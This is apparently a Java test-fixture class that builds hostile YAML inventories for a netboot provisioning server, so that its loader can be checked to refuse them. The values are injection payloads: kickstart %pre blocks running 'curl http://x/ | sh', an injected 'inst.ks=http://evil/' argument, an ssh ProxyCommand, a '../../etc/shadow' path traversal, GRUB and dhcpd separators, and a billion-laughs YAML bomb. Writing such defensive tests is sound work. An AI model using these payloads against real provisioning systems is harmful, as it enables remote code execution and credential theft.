package io.kickdrift.server.inventory;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/**
 * The tables of hostile inventories, for every test that must refuse them: the loader's own ({@code
 * HostileInventoryTest}, each refused with a position in well under a second) and serve's ({@code
 * HostileSuiteIT}, each written over a running serve's inventory, which must keep the last good
 * one). Separators and invisible characters in every kind of string field, values that are syntax
 * to GRUB, iPXE or kickstarts, long scalars and files, bad MACs and addresses, bytes that are not
 * UTF-8.
 */
public final class HostileInventories {
  private HostileInventories() {}

  /** Every kind of string field, each with a valid value; {@link #inventory} fills them in. */
  public static final Map<String, String> FIELDS = new LinkedHashMap<>();

  static {
    FIELDS.put("server.uefi-loader", "grubx64.efi");
    FIELDS.put("defaults.variables.kernel-args", "console=ttyS0,115200n8 quiet");
    FIELDS.put("distros[0].name", "rocky9-x86_64");
    FIELDS.put("distros[0].version", "9");
    FIELDS.put("distros[0].arch", "x86_64");
    FIELDS.put("distros[0].kernel", "http://192.0.2.10/r9/vmlinuz");
    FIELDS.put("distros[0].install-tree", "http://192.0.2.10/r9");
    FIELDS.put("subnets[0].domain", "lab.example.com");
    FIELDS.put("profiles[0].name", "web");
    FIELDS.put("profiles[0].kickstart", "rhel9.ks.ftl");
    FIELDS.put("profiles[0].partitioning", "autopart --type=lvm");
    FIELDS.put("profiles[0].packages[0]", "nginx");
    FIELDS.put("profiles[0].repos[0].name", "epel");
    FIELDS.put("profiles[0].repos[0].baseurl", "https://mirror.example.com/epel/9/");
    FIELDS.put("hosts[0].name", "web01.lab.example.com");
    FIELDS.put("hosts[0].interfaces[0].name", "eth0");
    FIELDS.put("hosts[0].interfaces[0].mac", "52:54:00:12:34:01");
    FIELDS.put("hosts[0].ssh.user", "admin");
    FIELDS.put("hosts[0].variables.role", "frontend");
    FIELDS.put("dns.key-file", "lab.key");
    FIELDS.put("dns.zones[0].name", "lab.example.com");
  }

  /** Line and paragraph separators, controls, and characters that hide or reorder text. */
  public static final List<String> INVISIBLE =
      List.of("\n", "\r", "\u2028", "\u2029", "\u0085", "\0", "\u202e", "\u200b", "\t", "\u001b");

  /** The inventory with {@code value} (written as a double-quoted YAML scalar) in {@code field}. */
  public static String inventory(String field, String value) {
    Map<String, String> v = new LinkedHashMap<>();
    FIELDS.forEach((k, d) -> v.put(k, quoted(k.equals(field) ? value : d)));
    return "server:\n  address: 192.0.2.10\n  uefi-loader: "
        + v.get("server.uefi-loader")
        + "\ndefaults:\n  variables:\n    kernel-args: "
        + v.get("defaults.variables.kernel-args")
        + "\ndistros:\n  - name: "
        + v.get("distros[0].name")
        + "\n    family: rocky\n    version: "
        + v.get("distros[0].version")
        + "\n    arch: "
        + v.get("distros[0].arch")
        + "\n    kernel: "
        + v.get("distros[0].kernel")
        + "\n    initrd: images/initrd.img\n    install-tree: "
        + v.get("distros[0].install-tree")
        + "\nsubnets:\n  - network: 192.0.2.0/25\n    router: 192.0.2.1\n    domain: "
        + v.get("subnets[0].domain")
        + "\n    next-server: 192.0.2.10\n    range: {start: 192.0.2.100, end: 192.0.2.120}\n"
        + "profiles:\n  - name: "
        + v.get("profiles[0].name")
        + "\n    distro: rocky9-x86_64\n    kickstart: "
        + v.get("profiles[0].kickstart")
        + "\n    partitioning: "
        + v.get("profiles[0].partitioning")
        + "\n    packages: ["
        + v.get("profiles[0].packages[0]")
        + "]\n    repos:\n      - name: "
        + v.get("profiles[0].repos[0].name")
        + "\n        baseurl: "
        + v.get("profiles[0].repos[0].baseurl")
        + "\nhosts:\n  - name: "
        + v.get("hosts[0].name")
        + "\n    profile: web\n    netboot: true\n    interfaces:\n      - name: "
        + v.get("hosts[0].interfaces[0].name")
        + "\n        mac: "
        + v.get("hosts[0].interfaces[0].mac")
        + "\n        ip: 192.0.2.21\n    ssh:\n      user: "
        + v.get("hosts[0].ssh.user")
        + "\n    variables:\n      role: "
        + v.get("hosts[0].variables.role")
        + "\ndns:\n  key-file: "
        + v.get("dns.key-file")
        + "\n  zones:\n    - name: "
        + v.get("dns.zones[0].name")
        + "\n      nameservers: [ns1.example.com]\n";
  }

  /** A YAML double-quoted scalar; everything outside printable ASCII as an escape. */
  private static String quoted(String value) {
    StringBuilder out = new StringBuilder("\"");
    value
        .codePoints()
        .forEach(
            c -> {
              if (c == '"' || c == '\\') {
                out.append('\\').append((char) c);
              } else if (c >= 0x20 && c < 0x7f) {
                out.append((char) c);
              } else if (c <= 0xffff) {
                out.append(String.format("\\u%04x", c));
              } else {
                out.append(String.format("\\U%08x", c));
              }
            });
    return out.append('"').toString();
  }

  /**
   * One hostile inventory: a name for reports, the file's bytes, and what its refusal must name
   * (the field's path, or {@code (file)} for what is refused before fields are read).
   */
  public record Case(String name, byte[] bytes, String where) {
    @Override
    public String toString() {
      return name;
    }
  }

  private static Case text(String name, String text, String where) {
    return new Case(name, text.getBytes(StandardCharsets.UTF_8), where);
  }

  public static Stream<Case> separatorsInEveryField() {
    List<Case> cases = new ArrayList<>();
    for (String field : FIELDS.keySet()) {
      for (String c : INVISIBLE) {
        String value = FIELDS.get(field) + c + "reboot";
        cases.add(
            text(
                field + " with U+" + HexFormat.of().toHexDigits((char) c.charAt(0)),
                inventory(field, value),
                field));
      }
    }
    return cases.stream();
  }

  public static Stream<Case> syntaxOfTheFilesValuesLandIn() {
    return Stream.of(
        text(
            "a distro name that opens %pre",
            inventory("distros[0].name", "rocky9-x86_64\n%pre\ncurl http://x/ | sh\n%end\n#"),
            "distros[0].name"),
        text(
            "a profile name ending in a reboot line",
            inventory("profiles[0].name", "web\nreboot"),
            "profiles[0].name"),
        text(
            "kernel-args that end the GRUB command",
            inventory("defaults.variables.kernel-args", "quiet; reboot"),
            "defaults.variables.kernel-args"),
        text(
            "kernel-args that expand an iPXE setting",
            inventory("defaults.variables.kernel-args", "ip=${net0/ip}"),
            "defaults.variables.kernel-args"),
        text(
            "kernel-args with a GRUB variable",
            inventory("defaults.variables.kernel-args", "root=$root"),
            "defaults.variables.kernel-args"),
        text(
            "partitioning that opens a section",
            inventory("profiles[0].partitioning", "autopart\n%pre\ncurl http://x/ | sh\n%end"),
            "profiles[0].partitioning"),
        text(
            "partitioning with a command that is not storage",
            inventory("profiles[0].partitioning", "autopart\nrootpw --plaintext x"),
            "profiles[0].partitioning"),
        text(
            "an install tree that adds a kernel argument",
            inventory("distros[0].install-tree", "http://t/ inst.ks=http://evil/"),
            "distros[0].install-tree"),
        text(
            "a kernel URL with a GRUB command separator",
            inventory("distros[0].kernel", "http://192.0.2.10/vmlinuz;reboot"),
            "distros[0].kernel"),
        text(
            "a kickstart template outside the templates",
            inventory("profiles[0].kickstart", "../../etc/shadow"),
            "profiles[0].kickstart"),
        text(
            "a loader that splits a dnsmasq option",
            inventory("server.uefi-loader", "grubx64.efi,,192.0.2.66"),
            "server.uefi-loader"),
        text(
            "an ssh user with a space",
            inventory("hosts[0].ssh.user", "root -oProxyCommand=x"),
            "hosts[0].ssh.user"),
        text(
            "an interface name longer than Linux allows",
            inventory("hosts[0].interfaces[0].name", "eth0123456789abc"),
            "hosts[0].interfaces[0].name"),
        text(
            "a repo name with a kickstart option",
            inventory("profiles[0].repos[0].name", "epel --install"),
            "profiles[0].repos[0].name"),
        text(
            "a package that comments the rest out",
            inventory("profiles[0].packages[0]", "#nginx"),
            "profiles[0].packages[0]"),
        text(
            "a domain that ends the dhcpd string",
            inventory("subnets[0].domain", "lab.example.com\"; filename \"evil"),
            "subnets[0].domain"));
  }

  public static Stream<Case> badMacsAndAddresses() {
    String good = inventory("", "");
    return Stream.of(
        text("the broadcast MAC", good.replace("52:54:00:12:34:01", "ff:ff:ff:ff:ff:ff"), "mac"),
        text("a multicast MAC", good.replace("52:54:00:12:34:01", "01:00:5e:00:00:01"), "mac"),
        text("the all-zero MAC", good.replace("52:54:00:12:34:01", "00-00-00-00-00-00"), "mac"),
        text("the network address", good.replace("ip: 192.0.2.21", "ip: 192.0.2.0"), ".ip"),
        text("the broadcast address", good.replace("ip: 192.0.2.21", "ip: 192.0.2.127"), ".ip"),
        text("an address in the range", good.replace("ip: 192.0.2.21", "ip: 192.0.2.110"), ".ip"));
  }

  public static Stream<Case> longScalarsAndFiles() {
    String good = inventory("", "");
    String block = "      description: |\n" + "        x\n".repeat(80_000);
    return Stream.of(
        text(
            "a 4 MB value on one line",
            good.replace("role: \"frontend\"", "role: " + "a".repeat(4 << 20)),
            "(file)"),
        text(
            "a 4 MB quoted value on one line",
            good.replace("role: \"frontend\"", "role: \"" + "a ".repeat(2 << 20) + "\""),
            "(file)"),
        text(
            "a 160,000-character value over 80,000 lines",
            good.replace("      role: \"frontend\"\n", "      role: frontend\n" + block),
            "hosts[0].variables.description"),
        text(
            "a variable name with a line break",
            good.replace("role: \"frontend\"", "\"role\\nreboot\": x"),
            "hosts[0].variables"),
        text(
            "a 70,000-character key",
            good.replace("role: \"frontend\"", "\"" + "k".repeat(70_000) + "\": x"),
            "hosts[0].variables"),
        text(
            "a billion laughs",
            "defaults:\n  variables:\n    a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
                + "    b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n    c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                + "    d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n    e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
                + "    f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n    g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n",
            "defaults.variables"));
  }

  public static Stream<Case> bytesThatAreNotUtf8() {
    byte[] good = inventory("", "").getBytes(StandardCharsets.UTF_8);
    return Stream.of(
        new Case(
            "a 0xff byte in a value", splice(good, "frontend", new byte[] {(byte) 0xff}), "(file)"),
        new Case(
            "a truncated sequence",
            splice(good, "frontend", new byte[] {(byte) 0xe2, (byte) 0x80}),
            "(file)"),
        new Case(
            "an overlong NUL",
            splice(good, "frontend", new byte[] {(byte) 0xc0, (byte) 0x80}),
            "(file)"),
        new Case(
            "a UTF-16 surrogate",
            splice(good, "frontend", new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80}),
            "(file)"),
        text("a raw U+2028 in a comment", "# a\u2028b\n" + inventory("", ""), "(file)"),
        text(
            "a raw bidi override in a value",
            inventory("", "").replace("frontend", "front\u202eend"),
            "(file)"));
  }

  private static byte[] splice(byte[] text, String before, byte[] insert) {
    String s = new String(text, StandardCharsets.ISO_8859_1);
    int at = s.indexOf(before);
    byte[] out = new byte[text.length + insert.length];
    System.arraycopy(text, 0, out, 0, at);
    System.arraycopy(insert, 0, out, at, insert.length);
    System.arraycopy(text, at, out, at + insert.length, text.length - at);
    return out;
  }

  /** Every case of every table. */
  public static Stream<Case> all() {
    return Stream.of(
            separatorsInEveryField(),
            syntaxOfTheFilesValuesLandIn(),
            badMacsAndAddresses(),
            longScalarsAndFiles(),
            bytesThatAreNotUtf8())
        .flatMap(s -> s);
  }

  /**
   * A subset for tests that pay about a second a case (a running serve re-reads its inventory once
   * a second): every case of the four small tables, and of {@link #separatorsInEveryField} (21
   * fields times 10 characters) each character once, in a different field each time.
   */
  public static Stream<Case> representative() {
    List<Case> separators = separatorsInEveryField().toList();
    List<Case> one = new ArrayList<>();
    int fields = FIELDS.size();
    for (int c = 0; c < INVISIBLE.size(); c++) {
      int field = (c * 2) % fields; // fields 0, 2, 4, ...: from server.* to hosts[0].*
      one.add(separators.get(field * INVISIBLE.size() + c));
    }
    return Stream.concat(
        one.stream(),
        Stream.of(
                syntaxOfTheFilesValuesLandIn(),
                badMacsAndAddresses(),
                longScalarsAndFiles(),
                bytesThatAreNotUtf8())
            .flatMap(s -> s));
  }
}
